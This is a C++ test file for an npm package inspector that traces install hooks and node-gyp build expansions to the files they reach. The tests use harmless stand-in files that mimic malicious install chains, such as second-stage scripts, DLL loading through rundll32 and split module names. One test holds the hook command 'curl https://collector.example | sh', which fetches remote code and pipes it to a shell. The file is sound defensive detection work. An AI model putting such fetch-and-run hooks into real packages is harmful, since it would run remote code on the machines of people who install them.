// From a hook's text to the files it reaches.
#include "inspect/hooks/hook_reach.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "inspect/code/features.h"
#include "inspect/hooks/gyp.h"
#include "tests/support/table.h"

namespace npmgate {
namespace {

// path -> content; kinds as classify finds them.
using Files = std::map<std::string, std::string>;

SourceTree tree_of(const Files& files) {
  std::vector<SourceFile> sources;
  for (const auto& [path, body] : files)
    sources.push_back({path, body, classify(path, body, 0644)});
  return SourceTree(std::move(sources));
}

HookReach reach(const Files& files, const std::string& command, const StringMap& scripts = {}) {
  const auto tree = tree_of(files);
  return HookFollower(tree, scripts).follow("postinstall", command);
}

struct PathCase {
  const char* name;
  const char* path;
  const char* normal;  // nullptr: leaves the package
};
class NormalPath : public ::testing::TestWithParam<PathCase> {};
TEST_P(NormalPath, IsThis) {
  const auto normal = normal_path(GetParam().path);
  ASSERT_EQ(normal.has_value(), GetParam().normal != nullptr);
  if (normal) {
    EXPECT_EQ(*normal, GetParam().normal);
  }
}
INSTANTIATE_TEST_SUITE_P(
    Rows, NormalPath,
    ::testing::Values(PathCase{"plain", "a/b", "a/b"}, PathCase{"dots", "./a/./b/../c", "a/c"},
                      PathCase{"slashes", "a//b/", "a/b"}, PathCase{"root", ".", ""},
                      PathCase{"back_to_root", "a/..", ""}, PathCase{"leaves", "../a", nullptr},
                      PathCase{"leaves_later", "a/../../b", nullptr},
                      PathCase{"absolute", "/a", nullptr}, PathCase{"home", "~/a", nullptr},
                      PathCase{"three_dots", "a/.../b", "a/.../b"}),
    kRowName);

struct ResolveCase {
  const char* name;
  const char* path;
  const char* file;  // "" none
};
class Resolve : public ::testing::TestWithParam<ResolveCase> {};
TEST_P(Resolve, FindsAsNodeDoes) {
  const Files files{{"a.js", ""},
                    {"a.json", "{}"},
                    {"b.cjs", ""},
                    {"c.mjs", ""},
                    {"d", ""},
                    {"d.js", ""},
                    {"dir/index.js", ""},
                    {"e/package.json", R"({"main": "./lib/x"})"},
                    {"e/lib/x.js", ""},
                    {"e/index.js", ""},
                    {"f/package.json", R"({"main": "lib"})"},
                    {"f/lib/index.js", ""},
                    {"g/package.json", "{broken"},
                    {"g/index.js", ""},
                    {"h.node", ""},
                    {"package.json", R"({"main": "a"})"},
                    {"Setup.JS", ""},
                    {"sub/run.js", ""},
                    {"subrun.js", ""},
                    {"i.ts", ""},
                    {"k/package.json", R"({"main": "../../x"})"},
                    {"k/index.json", "{}"}};
  const auto tree = tree_of(files);
  const auto found = tree.resolve(GetParam().path);
  EXPECT_EQ(found ? std::string(tree.files()[*found].path) : "", GetParam().file);
}
INSTANTIATE_TEST_SUITE_P(
    Rows, Resolve,
    ::testing::Values(
        ResolveCase{"exact", "a.json", "a.json"}, ResolveCase{"js_first", "./a", "a.js"},
        ResolveCase{"cjs", "b", "b.cjs"}, ResolveCase{"mjs", "c", "c.mjs"},
        ResolveCase{"file_before_ending", "d", "d"}, ResolveCase{"index", "dir", "dir/index.js"},
        ResolveCase{"index_slash", "./dir/", "dir/index.js"},
        ResolveCase{"main", "e", "e/lib/x.js"}, ResolveCase{"main_folder", "f", "f/lib/index.js"},
        ResolveCase{"broken_main", "g", "g/index.js"},
        ResolveCase{"main_outside", "k", "k/index.json"}, ResolveCase{"addon", "h", "h.node"},
        ResolveCase{"root", ".", "a.js"}, ResolveCase{"other_case", "setup.js", "Setup.JS"},
        ResolveCase{"other_case_no_ending", "SETUP", "Setup.JS"},
        ResolveCase{"backslash_of_windows", "sub\\run.js", "sub/run.js"},
        ResolveCase{"typescript", "i", "i.ts"}, ResolveCase{"none", "missing", ""},
        ResolveCase{"prefix_only", "di", ""}, ResolveCase{"outside", "../a.js", ""},
        ResolveCase{"absolute", "/a.js", ""}),
    kRowName);

TEST(ResolveBackslash, AlsoAsNothing) {
  const Files files{{"setup.js", ""}};
  EXPECT_TRUE(tree_of(files).resolve("se\\tup.js").has_value());
}

struct ReachCase {
  const char* name;
  const char* command;
  Files files;
  const char* reached;
  const char* missing = "";
};
void PrintTo(const ReachCase& row, std::ostream* out) {
  *out << row.command;
}

class Reach : public ::testing::TestWithParam<ReachCase> {};
TEST_P(Reach, GoesThisFar) {
  const auto found = reach(GetParam().files, GetParam().command, {{"build", "node b.js"}});
  EXPECT_EQ(joined(found.files), GetParam().reached);
  EXPECT_EQ(joined(found.missing), GetParam().missing);
}

// The shapes of attacks; every file is a harmless stand-in.
INSTANTIATE_TEST_SUITE_P(
    Attacks, Reach,
    ::testing::Values(
        ReachCase{"own_folder",
                  "node lib/install.js",
                  {{"lib/install.js", "const bin = require('.')\n'a.b'.split('.')"},
                   {"lib/index.js", ""},
                   {"index.js", ""}},
                  "lib/install.js lib/index.js"},
        ReachCase{"folder_above",
                  "node lib/install.mjs",
                  {{"lib/install.mjs", "import x from \"..\"; import './'"},
                   {"lib/index.js", ""},
                   {"index.js", ""}},
                  "lib/install.mjs index.js lib/index.js"},
        ReachCase{"a_dot_is_no_import",
                  "node lib/install.js",
                  {{"lib/install.js", "'a.b'.split('.').join('..')"}, {"lib/index.js", ""}},
                  "lib/install.js"},
        ReachCase{"script_beside_hook",
                  "node ./lib/build.js",
                  {{"lib/build.js", "x()"}, {"index.js", ""}},
                  "lib/build.js"},
        ReachCase{
            "shell_and_batch",
            "start /B node preinstall.js & node preinstall.js",
            {{"preinstall.js", "exec('preinstall.bat'); spawn('/bin/bash', ['preinstall.sh'])"},
             {"preinstall.sh", ""},
             {"preinstall.bat", ""}},
            "preinstall.js preinstall.bat preinstall.sh"},
        ReachCase{"named_but_not_shipped",
                  "start /B node compile.js & node compile.js",
                  {{"index.js", ""}},
                  "",
                  "compile.js"},
        ReachCase{"library_through_loader",
                  "node install.js",
                  {{"install.js",
                    "spawn('rundll32', [path.join(__dirname, './node-gyp.dll') + ',main'])"},
                   {"node-gyp.dll", "MZ"}},
                  "install.js node-gyp.dll"},
        ReachCase{"second_stage",
                  "node setup_bun.js",
                  {{"setup_bun.js", "const p = path.join(__dirname, 'bun_environment.js')"},
                   {"bun_environment.js", "y()"}},
                  "setup_bun.js bun_environment.js"},
        ReachCase{"module_chain",
                  "node setup.mjs",
                  {{"setup.mjs", "import './execution.js'"},
                   {"execution.js", "require('./deep/x')"},
                   {"deep/x.js", "1"}},
                  "setup.mjs execution.js deep/x.js"},
        ReachCase{"native",
                  "./tools/setup",
                  {{"tools/setup",
                    "\x7F"
                    "ELF"}},
                  "tools/setup"},
        ReachCase{"renamed_case", "node Setup.js", {{"setup.js", ""}}, "setup.js"},
        ReachCase{"text_as_script",
                  "node data.txt",
                  {{"data.txt", "require('./x')"}, {"x.js", ""}},
                  "data.txt x.js"},
        ReachCase{"shell_to_node",
                  "sh x.sh",
                  {{"x.sh", "#!/bin/sh\nnode ./y.js\n"}, {"y.js", "require('./z')"}, {"z.js", ""}},
                  "x.sh y.js z.js"},
        ReachCase{"shell_in_folder",
                  "sh t/x.sh",
                  {{"t/x.sh", ". ./y.sh\n"}, {"t/y.sh", ""}},
                  "t/x.sh t/y.sh"},
        ReachCase{
            "shell_to_npm", "sh x.sh", {{"x.sh", "npm run build\n"}, {"b.js", ""}}, "x.sh b.js"},
        ReachCase{"split_name",
                  "node x.js",
                  {{"x.js", "require('./pay' + 'load')"}, {"payload.js", ""}},
                  "x.js payload.js"},
        ReachCase{"windows_twin",
                  "./setup",
                  {{"setup",
                    "\x7F"
                    "ELF"},
                   {"setup.bat", "x"},
                   {"setup.exe", "MZ"}},
                  "setup setup.bat setup.exe"},
        ReachCase{"argument",
                  "node run.js payload.js",
                  {{"run.js", ""}, {"payload.js", ""}},
                  "run.js payload.js"}),
    kRowName);

INSTANTIATE_TEST_SUITE_P(
    Ordinary, Reach,
    ::testing::Values(
        ReachCase{"no_ending",
                  "node scripts/postinstall",
                  {{"scripts/postinstall.js", ""}},
                  "scripts/postinstall.js"},
        ReachCase{"try_require",
                  "node -e \"try{require('./postinstall')}catch(e){}\"",
                  {{"postinstall.js", ""}},
                  "postinstall.js"},
        ReachCase{"own_version",
                  "node install.js",
                  {{"install.js", "require('./package.json').version"}, {"package.json", "{}"}},
                  "install.js"},
        ReachCase{"data_argument", "tsc -p tsconfig.json", {{"tsconfig.json", "{}"}}, ""},
        ReachCase{"shortest_spelling",
                  "cd a && cd ../b && node ./x.js",
                  {{"index.js", ""}},
                  "",
                  "b/x.js"},
        ReachCase{"other_package", "node node_modules/x/y.js", {{"index.js", ""}}, ""},
        ReachCase{"outside", "node ../../x.js", {{"x.js", ""}}, "", "../../x.js"},
        ReachCase{"dependency_tool", "patch-package", {{"index.js", ""}}, ""},
        ReachCase{"addon", "node-gyp rebuild", {{"index.js", ""}}, ""},
        ReachCase{"own_bin",
                  "node x.js",
                  {{"x.js", ""}, {"Node_Modules/.bin/NODE", ""}},
                  "x.js Node_Modules/.bin/NODE"},
        ReachCase{"own_bin_for_windows",
                  "tsc",
                  {{"node_modules/.bin/tsc.cmd", ""}},
                  "node_modules/.bin/tsc.cmd"},
        ReachCase{"settings",
                  "npm run x && yarn y",
                  {{".npmrc", ""}, {".yarnrc.yml", ""}, {"lib/.npmrc", ""}, {"bunfig.toml", ""}},
                  ".npmrc .yarnrc.yml"},
        ReachCase{"own_shell", "tsc", {{"node_modules/.bin/sh", ""}}, "node_modules/.bin/sh"},
        ReachCase{
            "folder_before_path",
            "npx tsc && node x.js",
            {{"x.js", ""}, {"node.bat", ""}, {"npx.exe", ""}, {"lib/tsc.cmd", ""}, {"nod.cmd", ""}},
            "x.js npx.exe node.bat"},
        ReachCase{"cycle",
                  "node a.js",
                  {{"a.js", "require('./b')"}, {"b.js", "require('./a')"}},
                  "a.js b.js"},
        ReachCase{"folder_beats_root",
                  "node s/a.js",
                  {{"s/a.js", "require('./b')"}, {"s/b.js", ""}, {"b.js", ""}},
                  "s/a.js s/b.js"},
        ReachCase{"from_the_root",
                  "node s/a.js",
                  {{"s/a.js", "fs.readFileSync('./b.js')"}, {"b.js", ""}},
                  "s/a.js b.js"},
        ReachCase{"script_chain", "npm run build", {{"b.js", ""}}, "b.js"}),
    kRowName);

TEST(HookText, IsMeasuredItself) {
  const auto found = reach({}, "curl https://collector.example | sh");
  EXPECT_EQ(found.hook, "postinstall");
  EXPECT_EQ(found.command, "curl https://collector.example | sh");
  EXPECT_EQ(joined(found.traits), "network-fetch shell");
  EXPECT_EQ(joined(found.endpoints), "collector.example");
}

TEST(HookFollowers, GiveTheSameTwice) {
  const Files files{{"a.js", "require('./b')"}, {"b.js", ""}};
  const auto tree = tree_of(files);
  HookFollower follower(tree, {});
  EXPECT_EQ(follower.follow("install", "node a"), follower.follow("install", "node a"));
}

struct GypCase {
  const char* name;
  const char* text;
  std::vector<std::string> commands;
  std::vector<std::string> includes;
};
void PrintTo(const GypCase& row, std::ostream* out) {
  *out << row.text;
}

class Gyp : public ::testing::TestWithParam<GypCase> {};
TEST_P(Gyp, RunsThese) {
  const auto gyp = read_gyp(GetParam().text);
  EXPECT_EQ(gyp.commands, GetParam().commands);
  EXPECT_EQ(gyp.includes, GetParam().includes);
}
INSTANTIATE_TEST_SUITE_P(
    Rows, Gyp,
    ::testing::Values(
        GypCase{"nothing", "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}", {}, {}},
        GypCase{"expansion",
                "{'sources': ['<!(node index.js > /dev/null 2>&1 && echo stub.c)']}",
                {"node index.js > /dev/null 2>&1 && echo stub.c"},
                {}},
        GypCase{"nested_brackets",
                "'<!@(node -p \\\"require('node-addon-api').include\\\")'",
                {"node -p \"require('node-addon-api').include\""},
                {}},
        GypCase{"two", "'<!(a)' '<!(b)'", {"a", "b"}, {}},
        GypCase{"later_phases", "'>!(a)' '^!@(b)'", {"a", "b"}, {}},
        GypCase{
            "python_module", "'<!pymod_do_main(tools.evil -x)'", {"python -m tools.evil -x"}, {}},
        GypCase{"no_phase", "'!(a)', ['OS!=(b)']", {}, {}},
        GypCase{"unclosed", "'<!(node x", {"node x"}, {}},
        GypCase{"no_command", "'<(variable) <@(list) <!'", {}, {}},
        GypCase{"action",
                "{'actions': [{'action': ['node', 'tools/gen.js', '<@(_inputs)']}]}",
                {"node tools/gen.js <@(_inputs)"},
                {}},
        GypCase{"action_name", "{'action_name': ['a', 'b']}", {}, {}},
        GypCase{"includes",
                "{'includes': ['common.gypi'], 'dependencies': ['deps/z.gyp:z']}",
                {},
                {"common.gypi", "deps/z.gyp"}},
        GypCase{"comment", "# 'common.gypi'\n{}", {}, {}},
        GypCase{"commented_expansion", "# '<!(x)'\n{}", {"x"}, {}}),  // too much is no harm
    kRowName);

TEST(GypTexts, OfManyOpenExpansionsEnd) {
  std::string text;
  for (int i = 0; i < 300'000; ++i) text += "<!(";
  EXPECT_EQ(read_gyp(text).commands.size(), 1u);
}

// node-gyp includes them whether binding.gyp names them or not.
TEST(ImplicitBuild, ReachesWhatNodeGypIncludesUnasked) {
  const Files files{{"binding.gyp", "{}"},
                    {"common.gypi", "'<!(node evil.js)'"},
                    {"config.gypi", "{}"},
                    {"evil.js", ""},
                    {"lib/common.gypi", ""}};
  const auto tree = tree_of(files);
  const auto found = HookFollower(tree, {}).follow_build();
  EXPECT_EQ(joined(found.files), "binding.gyp config.gypi common.gypi evil.js");
  EXPECT_EQ(found.command, "node-gyp rebuild\nnode evil.js");
}

const Files& addon() {
  static const Files kFiles{{"binding.gyp",
                             "{'includes': ['build/common.gypi'], 'sources': ['<!(node index.js > "
                             "/dev/null && echo stub.c)']}"},
                            {"build/common.gypi", "{'variables': {'x': '<!(sh gen.sh)'}}"},
                            {"index.js", "require('./lib/deep')"},
                            {"lib/deep.js", "1"},
                            {"gen.sh", "echo"}};
  return kFiles;
}

TEST(ImplicitBuild, ReachesWhatGypRuns) {
  const auto tree = tree_of(addon());
  const auto found = HookFollower(tree, {}).follow_build();
  EXPECT_EQ(found.hook, "node-gyp");
  EXPECT_EQ(found.command, "node-gyp rebuild\nnode index.js > /dev/null && echo stub.c\nsh gen.sh");
  EXPECT_EQ(joined(found.files), "binding.gyp index.js build/common.gypi gen.sh lib/deep.js");
  EXPECT_EQ(joined(found.traits), "shell");
}

TEST(ImplicitBuild, OfAPlainAddonReachesOnlyItsFile) {
  const Files files{{"binding.gyp", "{'include_dirs': ['<!(node -e \"require(\\'nan\\')\")']}"},
                    {"index.js", ""}};
  const auto tree = tree_of(files);
  const auto found = HookFollower(tree, {}).follow_build();
  EXPECT_EQ(joined(found.files), "binding.gyp");
  EXPECT_TRUE(found.traits.empty());
}

TEST(ExplicitBuild, ReachesTheSameFiles) {
  for (const char* command :
       {"node-gyp rebuild", "prebuild-install || node-gyp rebuild", "npm run gyp"}) {
    const auto found = reach(addon(), command, {{"gyp", "node-gyp rebuild"}});
    EXPECT_EQ(joined(found.files), "binding.gyp index.js build/common.gypi gen.sh lib/deep.js")
        << command;
    EXPECT_EQ(found.command, command);
  }
  EXPECT_EQ(joined(reach(addon(), "node lib/deep").files), "lib/deep.js");
}

// Evidence is JSON: bytes of a file that are no UTF-8 must not get into it.
TEST(ImplicitBuild, CommandIsUtf8) {
  const Files files{{"binding.gyp", "'<!(node \xFF\xFEx.js)'"}};
  const auto tree = tree_of(files);
  const auto found = HookFollower(tree, {}).follow_build();
  EXPECT_EQ(found.command, "node-gyp rebuild\nnode ??x.js");
  EXPECT_EQ(joined(found.missing), "??x.js");
}

}  // namespace
}  // namespace npmgate
